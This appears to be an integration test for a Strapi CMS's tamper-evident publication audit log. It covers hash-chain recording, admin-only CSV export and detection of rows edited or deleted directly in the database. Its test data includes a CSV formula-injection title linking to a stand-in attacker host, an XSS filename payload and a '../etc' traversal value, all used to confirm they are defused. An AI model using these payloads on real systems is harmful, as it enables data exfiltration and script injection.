// The publication record (cms/src/publication-record, docs/OPERATIONS.md) in a real Strapi on
// SQLite with the seeded editors: what an editor publishes, unpublishes and deletes — one by one
// and in bulk — is appended with who, what and which document; only the super admin reads it
// (JSON and CSV, an editor's formula-like title defused); `pnpm record:verify` accepts the chain
// and names the entry someone edited or deleted directly in the database file.
import { copyFile, mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { adminLogin, adminRequests, cm, type Account } from './helpers/admin-api.ts';
import { RECORD_TABLE as TABLE, readWholeRecord, verifyRecord, type RecordEntryJson } from './helpers/record.ts';
import { startStrapi, type StrapiInstance } from './helpers/strapi.ts';
import { importRedirects } from '@stadtportal/publish/import-redirects';
import { passedGates, recordEventFromEnv, recordRunnerEvent } from '@stadtportal/publish/record';
import { importHeaderValue, RECORD_ANCHORS_FILE, REDIRECT_IMPORT_HEADER } from '@stadtportal/shared/record';

const STAMP = Date.now().toString(36);
/** The webhook's shared secret, which the runner also presents to the record. */
const WEBHOOK_SECRET = `geheim-${STAMP}-0123456789abcdef`;
const NEWS = 'api::news-article.news-article';
/** An editor's title a spreadsheet would run as a formula. */
const FORMULA_TITLE = `=HYPERLINK("http://angreifer.example/?d="&A1;"Details") ${STAMP}`;

let strapi: StrapiInstance;
let adminToken = '';
const tokens = new Map<Account, string>();
const as = adminRequests(() => strapi.url, tokens);
let feuerwehrEmail = '';
let feuerwehrOrg = '';

type Entry = RecordEntryJson;

const asAdmin = (path: string) => fetch(`${strapi.url}${path}`, { headers: { authorization: `Bearer ${adminToken}` } });

const record = () => readWholeRecord(strapi.url, adminToken);
/** The runner's publish folder, where it keeps its anchor file (inside the test's Strapi folder). */
const anchorBaseOf = () => join(strapi.dir, 'publish');

const entriesOf = async (documentId: string) => (await record()).filter((e) => e.documentId === documentId).sort((a, b) => a.seq - b.seq);

async function created(res: Response): Promise<string> {
  const text = await res.text();
  expect([200, 201], text).toContain(res.status);
  return (JSON.parse(text) as { data: { documentId: string } }).data.documentId;
}

const newsDraft = (slug: string, title: string) => ({
  title,
  slug,
  date: '2026-12-01',
  teaser: 'Kurz',
  body: [{ type: 'paragraph', children: [{ type: 'text', text: 'Inhalt' }] }],
  organisation: { connect: [{ documentId: feuerwehrOrg }] },
});

let accessKeyOnce: Promise<string> | null = null;
/** A full-access API token „Import <STAMP>“, made once: the import script's credential. */
const importToken = (): Promise<string> =>
  (accessKeyOnce ??= (async () => {
    const made = await fetch(`${strapi.url}/admin/api-tokens`, {
      method: 'POST',
      headers: { authorization: `Bearer ${adminToken}`, 'content-type': 'application/json' },
      body: JSON.stringify({ name: `Import ${STAMP}`, type: 'full-access', lifespan: null, description: '' }),
    });
    expect(made.status, await made.clone().text()).toBe(201);
    return ((await made.json()) as { data: { accessKey: string } }).data.accessKey;
  })());

/** `pnpm record:verify` against a SQLite file. */
const verify = (file: string, ...args: string[]) => verifyRecord({ DATABASE_CLIENT: 'sqlite', DATABASE_FILENAME: file }, ...args);

beforeAll(async () => {
  strapi = await startStrapi('sqlite', { WEBHOOK_SECRET });
  const logins = JSON.parse(await readFile(join(strapi.dir, 'editor-logins.json'), 'utf8')) as Record<Account, { email: string; password: string }>;
  feuerwehrEmail = logins.feuerwehr.email;
  tokens.set('feuerwehr', await adminLogin(strapi.url, logins.feuerwehr.email, logins.feuerwehr.password));
  tokens.set('pressestelle', await adminLogin(strapi.url, logins.pressestelle.email, logins.pressestelle.password));
  adminToken = await strapi.adminToken();
  const orgs = await fetch(`${strapi.url}/api/organisations?filters[slug][$eq]=freiwillige-feuerwehr-aschersleben`);
  const [org] = ((await orgs.json()) as { data: { documentId: string }[] }).data;
  if (!org) throw new Error('Organisation Feuerwehr fehlt im Seed');
  feuerwehrOrg = org.documentId;
});

afterAll(async () => {
  await strapi?.stop();
});

describe('recording', () => {
  let single = '';

  it('publish, unpublish and delete by an editor append entries naming editor, action and document', async () => {
    single = await created(await as('feuerwehr', 'POST', cm(NEWS), newsDraft(`protokoll-${STAMP}`, FORMULA_TITLE)));
    // A draft saved is not a publication: nothing recorded yet.
    expect(await entriesOf(single)).toEqual([]);

    const pub = await as('feuerwehr', 'POST', cm(NEWS, `/${single}/actions/publish`), {});
    expect(pub.status, await pub.text()).toBe(200);
    const unpub = await as('feuerwehr', 'POST', cm(NEWS, `/${single}/actions/unpublish`), {});
    expect(unpub.status, await unpub.text()).toBe(200);
    const del = await as('feuerwehr', 'DELETE', cm(NEWS, `/${single}`));
    expect(del.status, await del.text()).toBe(200);

    const entries = await entriesOf(single);
    expect(entries.map((e) => e.action)).toEqual(['publish', 'unpublish', 'delete']);
    for (const e of entries) {
      expect(e.actor).toContain(feuerwehrEmail);
      expect(e.actorId).toEqual(expect.any(Number));
      expect(e.contentType).toBe(NEWS);
      expect(e.organisation).toBe(feuerwehrOrg);
      // The title is kept even for the delete (read before the document went).
      expect(e.label).toBe(`${FORMULA_TITLE} (protokoll-${STAMP})`);
      expect(e.at).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
      expect(e.hash).toMatch(/^[0-9a-f]{64}$/);
    }
    // Consecutive numbers, each linked to the one before; the seed's publishes came first, as „System“.
    const all = await record();
    expect(all[0]).toMatchObject({ seq: 1, actor: 'System', actorId: null, action: 'publish' });
    for (const [i, e] of all.entries()) {
      expect(e.seq).toBe(i + 1);
      if (i > 0) expect(e.prevHash).toBe(all[i - 1]?.hash);
    }
  });

  it('an action that changes nothing is not recorded', async () => {
    const before = (await record()).length;
    // Unpublishing a draft that was never published: nothing happened, nothing recorded.
    const draft = await created(await as('feuerwehr', 'POST', cm(NEWS), newsDraft(`nie-veroeffentlicht-${STAMP}`, `Nie ${STAMP}`)));
    await as('feuerwehr', 'POST', cm(NEWS, `/${draft}/actions/unpublish`), {});
    expect(await entriesOf(draft)).toEqual([]);
    expect((await record()).length).toBe(before);
  });

  it('a redirect (no draft & publish: a save is its publication) is recorded when saved and deleted', async () => {
    const from = `/alte-seite-${STAMP}`;
    const made = await as('pressestelle', 'POST', '/content-manager/collection-types/api::redirect.redirect', {
      from,
      to: 'https://www.sportbund-salzlandkreis.example/vereine',
      kind: 'voruebergehend_302',
      note: 'Test',
    });
    const id = await created(made);
    const del = await as('pressestelle', 'DELETE', `/content-manager/collection-types/api::redirect.redirect/${id}`);
    expect(del.status, await del.text()).toBe(200);
    const entries = await entriesOf(id);
    expect(entries.map((e) => [e.action, e.contentType, e.label])).toEqual([
      ['publish', 'api::redirect.redirect', from],
      ['delete', 'api::redirect.redirect', from],
    ]);
  });

  it('a save through an API token names the token, not „System“', async () => {
    const accessKey = await importToken();
    const from = `/token-seite-${STAMP}`;
    const saved = await fetch(`${strapi.url}/api/redirects`, {
      method: 'POST',
      headers: { authorization: `Bearer ${accessKey}`, 'content-type': 'application/json' },
      body: JSON.stringify({ data: { from, to: '/rathaus/', kind: 'dauerhaft_301', note: 'Import' } }),
    });
    const id = await created(saved);
    const entries = await entriesOf(id);
    expect(entries.map((e) => [e.action, e.actor])).toEqual([['publish', `API-Token „Import ${STAMP}“`]]);
  });

  it('a publish whose entry cannot be written is rolled back: nothing published unrecorded', async () => {
    const id = await created(await as('feuerwehr', 'POST', cm(NEWS), newsDraft(`unprotokolliert-${STAMP}`, `Unprotokolliert ${STAMP}`)));
    // The record refuses every insert (as a full disk or a broken table would).
    const db = new DatabaseSync(join(strapi.dir, 'data.db'));
    try {
      db.exec(`CREATE TRIGGER test_refuse_insert BEFORE INSERT ON ${TABLE} BEGIN SELECT RAISE(ABORT, 'Test: kein Platz'); END`);
      const res = await as('feuerwehr', 'POST', cm(NEWS, `/${id}/actions/publish`), {});
      expect(res.status).toBeGreaterThanOrEqual(400);
    } finally {
      db.exec('DROP TRIGGER IF EXISTS test_refuse_insert');
      db.close();
    }
    const published = await fetch(`${strapi.url}/api/news-articles?filters[documentId][$eq]=${id}`);
    expect(((await published.json()) as { data: unknown[] }).data).toEqual([]);
    expect(await entriesOf(id)).toEqual([]);
  });

  it('a bulk publish records one entry per document, and the chain does not fork', async () => {
    const ids: string[] = [];
    for (const n of [1, 2, 3])
      ids.push(await created(await as('pressestelle', 'POST', cm(NEWS), newsDraft(`sammel-${n}-${STAMP}`, `Sammelmeldung ${n} ${STAMP}`))));
    const res = await as('pressestelle', 'POST', cm(NEWS, '/actions/bulkPublish'), { documentIds: ids });
    expect(res.status, await res.text()).toBe(200);
    for (const id of ids) expect((await entriesOf(id)).map((e) => e.action)).toEqual(['publish']);
    // Three single publishes at once: still one chain.
    const parallel: string[] = [];
    for (const n of [4, 5, 6])
      parallel.push(await created(await as('pressestelle', 'POST', cm(NEWS), newsDraft(`parallel-${n}-${STAMP}`, `Parallel ${n} ${STAMP}`))));
    const answers = await Promise.all(parallel.map((id) => as('pressestelle', 'POST', cm(NEWS, `/${id}/actions/publish`), {})));
    expect(answers.map((r) => r.status)).toEqual([200, 200, 200]);
    const all = (await record()).sort((a, b) => a.seq - b.seq);
    expect(new Set(all.map((e) => e.prevHash)).size).toBe(all.length);
    for (const id of parallel) expect((await entriesOf(id)).map((e) => e.action)).toEqual(['publish']);
  });
});

describe('the redirect import (pnpm redirects:import)', () => {
  it('records each redirect it writes as „Weiterleitungen importiert“ with the file’s name, as the token', async () => {
    const accessKey = await importToken();
    const csv = `from;to;status\n/import-alt-${STAMP};/rathaus/;301\n/import-alt2-${STAMP};/aktuelles/;302\n`;
    const result = await importRedirects(csv, `/tmp/Alte Adressen (Büro) ${STAMP}.csv`, { cmsUrl: strapi.url, token: accessKey });
    expect(result).toMatchObject({ created: 2, rejected: 0 });
    const mine = (await record()).filter((e) => e.label?.includes(`/import-alt`) && e.label.includes(STAMP));
    expect(mine.map((e) => [e.action, e.actor]).sort()).toEqual([
      ['redirect-import', `API-Token „Import ${STAMP}“`],
      ['redirect-import', `API-Token „Import ${STAMP}“`],
    ]);
    expect(mine.map((e) => e.label).sort()).toEqual([
      `/import-alt-${STAMP} (Import Alte Adressen (Büro) ${STAMP}.csv)`,
      `/import-alt2-${STAMP} (Import Alte Adressen (Büro) ${STAMP}.csv)`,
    ]);
  });

  it('shows no file name outside the grammar, and an editor’s save with the header stays an editor’s publication', async () => {
    const accessKey = await importToken();
    const hostile = await fetch(`${strapi.url}/api/redirects`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${accessKey}`,
        'content-type': 'application/json',
        [REDIRECT_IMPORT_HEADER]: importHeaderValue('<img src=x onerror=alert(1)>.csv'),
      },
      body: JSON.stringify({ data: { from: `/feind-${STAMP}`, to: '/rathaus/', kind: 'dauerhaft_301' } }),
    });
    const [hostileEntry] = await entriesOf(await created(hostile));
    expect(hostileEntry).toMatchObject({ action: 'redirect-import', label: `/feind-${STAMP} (Import (Dateiname ungültig))` });

    const editor = await fetch(`${strapi.url}/content-manager/collection-types/api::redirect.redirect`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${tokens.get('pressestelle') ?? ''}`,
        'content-type': 'application/json',
        [REDIRECT_IMPORT_HEADER]: importHeaderValue('liste.csv'),
      },
      body: JSON.stringify({ from: `/redaktion-${STAMP}`, to: '/rathaus/', kind: 'dauerhaft_301' }),
    });
    const [editorEntry] = await entriesOf(await created(editor));
    expect(editorEntry).toMatchObject({ action: 'publish', label: `/redaktion-${STAMP}` });
    expect(editorEntry?.actor).toContain('@');
  });
});

describe('runner events', () => {
  const events = () => `${strapi.url}/stadtportal/publication-record/events`;
  const post = (authorization: string, body: unknown) =>
    fetch(events(), { method: 'POST', headers: { 'content-type': 'application/json', authorization }, body: JSON.stringify(body) });

  it('refuse a wrong or missing secret and an editor’s login, and record nothing', async () => {
    const before = (await record()).length;
    const body = { action: 'rollback', release: 'r2', from: 'r3' };
    expect((await post('Bearer falsch-falsch-falsch-falsch', body)).status).toBe(401);
    expect((await post('', body)).status).toBe(401);
    expect((await post(`Bearer ${tokens.get('pressestelle') ?? ''}`, body)).status).toBe(401);
    expect((await record()).length).toBe(before);
  });

  it('refuse an event that does not say what it needs, in German', async () => {
    const res = await post(`Bearer ${WEBHOOK_SECRET}`, { action: 'release-live', release: 'r1' });
    expect(res.status).toBe(400);
    expect(((await res.json()) as { error: { message: string } }).error.message).toMatch(/„gates“ fehlt/);
    expect((await post(`Bearer ${WEBHOOK_SECRET}`, { action: 'publish', release: 'r1', gates: {} })).status).toBe(400);
    expect((await post(`Bearer ${WEBHOOK_SECRET}`, { action: 'rollback', release: '../etc', from: 'r1' })).status).toBe(400);
  });

  it('record the alerts the site shows after a change, by documentId; refuse anything else in the list', async () => {
    const target = { cmsUrl: strapi.url, secret: WEBHOOK_SECRET };
    const shown = await recordRunnerEvent(target, { action: 'alert', alerts: ['a1b2c3d4e5f6g7h8i9j0k1l2', 'zz9yy8xx7ww6vv5uu4tt3ss2'] });
    const none = await recordRunnerEvent(target, { action: 'alert', alerts: [] });
    const all = await record();
    expect(all.find((e) => e.seq === shown.seq)).toMatchObject({
      actor: 'Build-Runner',
      action: 'alert',
      release: null,
      label: 'Eilmeldungen auf der Website: 2 (a1b2c3d4e5f6g7h8i9j0k1l2, zz9yy8xx7ww6vv5uu4tt3ss2)',
    });
    expect(all.find((e) => e.seq === none.seq)?.label).toBe('Eilmeldungen auf der Website: keine');
    const before = (await record()).length;
    for (const alerts of [['<b>x</b>'], 'abc', [1], Array.from({ length: 51 }, (_, i) => `id${i}`)]) {
      const res = await post(`Bearer ${WEBHOOK_SECRET}`, { action: 'alert', alerts });
      expect(res.status, JSON.stringify(alerts)).toBe(400);
    }
    expect((await record()).length).toBe(before);
  });

  it('pin each runner event in the anchor file beside the releases, as the CMS recorded it', async () => {
    const anchorBase = anchorBaseOf();
    await mkdir(anchorBase, { recursive: true });
    const env = { WEBHOOK_SECRET, CMS_URL: strapi.url };
    await recordEventFromEnv({ action: 'release-live', release: `20261207-0430-${STAMP}`, gates: passedGates(['Links']) }, env, anchorBase);
    await recordEventFromEnv({ action: 'alert', alerts: [] }, env, anchorBase);
    const lines = (await readFile(join(anchorBase, RECORD_ANCHORS_FILE), 'utf8')).trim().split('\n');
    expect(lines).toHaveLength(2);
    const all = await record();
    for (const [line, action] of [
      [lines[0], 'release-live'],
      [lines[1], 'alert'],
    ] as const) {
      const m = /^(\d+):([0-9a-f]{64}) \S+Z (\S+)$/.exec(line ?? '');
      expect(m, line).not.toBeNull();
      expect(m?.[3]).toBe(action);
      expect(all.find((e) => e.seq === Number(m?.[1]))).toMatchObject({ action, hash: m?.[2] });
    }
  });

  it('record a release gone live with its gates, and a rollback, as „Build-Runner“', async () => {
    const target = { cmsUrl: strapi.url, secret: WEBHOOK_SECRET };
    const live = await recordRunnerEvent(target, {
      action: 'release-live',
      release: `20261207-0450-${STAMP}`,
      gates: passedGates(['Inhalte holen', 'HTML-Prüfung', 'Links']),
    });
    const back = await recordRunnerEvent(target, { action: 'rollback', release: `20261207-0440-${STAMP}`, from: `20261207-0450-${STAMP}` });
    expect(back.seq).toBe(live.seq + 1);
    const all = await record();
    const [a, b] = [all.find((e) => e.seq === live.seq), all.find((e) => e.seq === back.seq)];
    expect(a).toMatchObject({ actor: 'Build-Runner', actorId: null, action: 'release-live', release: `20261207-0450-${STAMP}`, documentId: null });
    expect(JSON.parse(a?.gates ?? 'null')).toEqual({ 'Inhalte holen': 'bestanden', 'HTML-Prüfung': 'bestanden', Links: 'bestanden' });
    expect(b).toMatchObject({
      actor: 'Build-Runner',
      action: 'rollback',
      release: `20261207-0440-${STAMP}`,
      label: `Rollback von 20261207-0450-${STAMP} auf 20261207-0440-${STAMP}`,
    });
  });
});

describe('reading', () => {
  it('editors get 403 on the JSON and the CSV', async () => {
    for (const who of ['feuerwehr', 'pressestelle'] as const) {
      for (const path of ['/stadtportal/publication-record', '/stadtportal/publication-record.csv']) {
        const res = await as(who, 'GET', path);
        expect(res.status, `${who} ${path}`).toBe(403);
        expect(((await res.json()) as { error: { message: string } }).error.message).toMatch(/Super-Admins/);
      }
    }
    expect((await fetch(`${strapi.url}/stadtportal/publication-record`)).status).toBe(401);
  });

  it('the admin gets pages newest first', async () => {
    const res = await asAdmin('/stadtportal/publication-record?page=1&pageSize=2');
    const body = (await res.json()) as { data: Entry[]; pagination: { page: number; pageSize: number; total: number } };
    expect(body.data).toHaveLength(2);
    expect(body.data[0]?.seq).toBe(body.pagination.total);
    expect(body.data[1]?.seq).toBe(body.pagination.total - 1);
  });

  it('the admin gets CSV with a German header, and the formula title as text', async () => {
    const res = await asAdmin('/stadtportal/publication-record.csv');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toMatch(/attachment/);
    const csv = await res.text();
    const [header, ...lines] = csv.replace(/^\uFEFF/, '').split('\r\n');
    expect(header).toMatch(/^Nr\.;Zeitpunkt \(UTC\);Benutzer-ID;Handelnde Person;Aktion;/);
    const titled = lines.filter((l) => l.includes(STAMP) && l.includes('HYPERLINK'));
    expect(titled).toHaveLength(3);
    for (const line of titled) {
      expect(line).toContain(`;"'=HYPERLINK(""http://angreifer.example/?d=""&A1;""Details"") ${STAMP} (protokoll-${STAMP})";`);
      expect(line).not.toMatch(/;"?=/);
    }
  });
});

describe('pnpm record:verify', () => {
  let file = '';
  let copy = '';
  let cut = '';
  let anchor = '';
  let target: Entry | undefined;

  beforeAll(async () => {
    target = (await record()).find((e) => e.action === 'unpublish' && e.label?.includes(STAMP));
    // Stopped, so the database file is complete (no write-ahead log) and nothing writes meanwhile.
    await strapi.halt();
    file = join(strapi.dir, 'data.db');
    copy = join(strapi.dir, 'copy.db');
    await copyFile(file, copy);
    cut = join(strapi.dir, 'cut.db');
    await copyFile(file, cut);
  });

  it('accepts the untouched chain', async () => {
    const { code, out } = await verify(file);
    expect(code, out).toBe(0);
    expect(out).toMatch(/Veröffentlichungsprotokoll: \d+ Einträge, Kette unversehrt/);
    anchor = /^Anker: (\d+:[0-9a-f]{64})$/m.exec(out)?.[1] ?? '';
    expect(anchor).not.toBe('');
    expect((await verify(file, '--anker', anchor)).code).toBe(0);
  });

  it('holds the record to the runner’s anchor file in PUBLISH_DIR without being told, and names a pinned entry that differs', async () => {
    const anchorBase = anchorBaseOf();
    const env = { DATABASE_CLIENT: 'sqlite', DATABASE_FILENAME: file, PUBLISH_DIR: anchorBase };
    const held = await verifyRecord(env);
    expect(held.code, held.out).toBe(0);
    expect(held.out).toContain(`2 Anker bestätigt (aus ${join(anchorBase, RECORD_ANCHORS_FILE)})`);
    // The same file with one pinned hash not the database's: as if the chain had been rewritten up to it.
    const forged = join(strapi.dir, 'anker-falsch.txt');
    const text = await readFile(join(anchorBase, RECORD_ANCHORS_FILE), 'utf8');
    const [seq] = text.split(':');
    await writeFile(forged, text.replace(/^(\d+):[0-9a-f]{64}/, `$1:${'e'.repeat(64)}`));
    const { code, out } = await verifyRecord(env, '--anker-datei', forged);
    expect(code, out).toBe(1);
    expect(out).toContain(`Eintrag ${seq}: Hash weicht vom aufbewahrten Anker ab`);
    // A file that is not an anchor file is not taken for an empty one.
    await writeFile(forged, 'kein Anker\n');
    expect((await verifyRecord(env, '--anker-datei', forged)).code).toBe(2);
  });

  it('with the anchor of an earlier run: names the newest entries cut off (invisible to the chain alone)', async () => {
    const last = Number(anchor.split(':')[0]);
    const db = new DatabaseSync(cut);
    try {
      db.exec(`DROP TRIGGER ${TABLE}_no_delete`);
      db.prepare(`DELETE FROM ${TABLE} WHERE seq >= ?`).run(last - 1);
    } finally {
      db.close();
    }
    expect((await verify(cut)).code).toBe(0);
    const { code, out } = await verify(cut, '--anker', anchor);
    expect(code, out).toBe(1);
    expect(out).toContain(`Eintrag ${last}: fehlt`);
  });

  it('names the entry whose field was edited in the database file', async () => {
    if (!target) throw new Error('Eintrag „zurückgezogen“ fehlt');
    const db = new DatabaseSync(file);
    try {
      // The trigger refuses the edit …
      expect(() => db.prepare(`UPDATE ${TABLE} SET actor = ? WHERE seq = ?`).run('jemand-anders@example.org', target?.seq ?? 0)).toThrow(/nur angehängt/);
      // … but whoever holds the file can drop it.
      db.exec(`DROP TRIGGER ${TABLE}_no_update`);
      db.prepare(`UPDATE ${TABLE} SET actor = ? WHERE seq = ?`).run('jemand-anders@example.org', target.seq);
    } finally {
      db.close();
    }
    const { code, out } = await verify(file);
    expect(code, out).toBe(1);
    expect(out).toContain(`Eintrag ${target.seq}: Prüfsumme passt nicht zum Inhalt`);
  });

  it('names the gap where an entry was deleted', async () => {
    if (!target) throw new Error('Eintrag „zurückgezogen“ fehlt');
    const db = new DatabaseSync(copy);
    try {
      expect(() => db.prepare(`DELETE FROM ${TABLE} WHERE seq = ?`).run(target?.seq ?? 0)).toThrow(/nur angehängt/);
      db.exec(`DROP TRIGGER ${TABLE}_no_delete`);
      db.prepare(`DELETE FROM ${TABLE} WHERE seq = ?`).run(target.seq);
    } finally {
      db.close();
    }
    const { code, out } = await verify(copy);
    expect(code, out).toBe(1);
    expect(out).toContain(`Eintrag ${target.seq + 1}: Lücke in der Nummerierung – Eintrag ${target.seq} fehlt`);
  });

  it('says so when there is no record to check', async () => {
    const { code, out } = await verify(join(strapi.dir, 'gibt-es-nicht.db'));
    expect(code, out).toBe(2);
    expect(out).toMatch(/nicht geprüft: Keine SQLite-Datenbank/);
  });
});
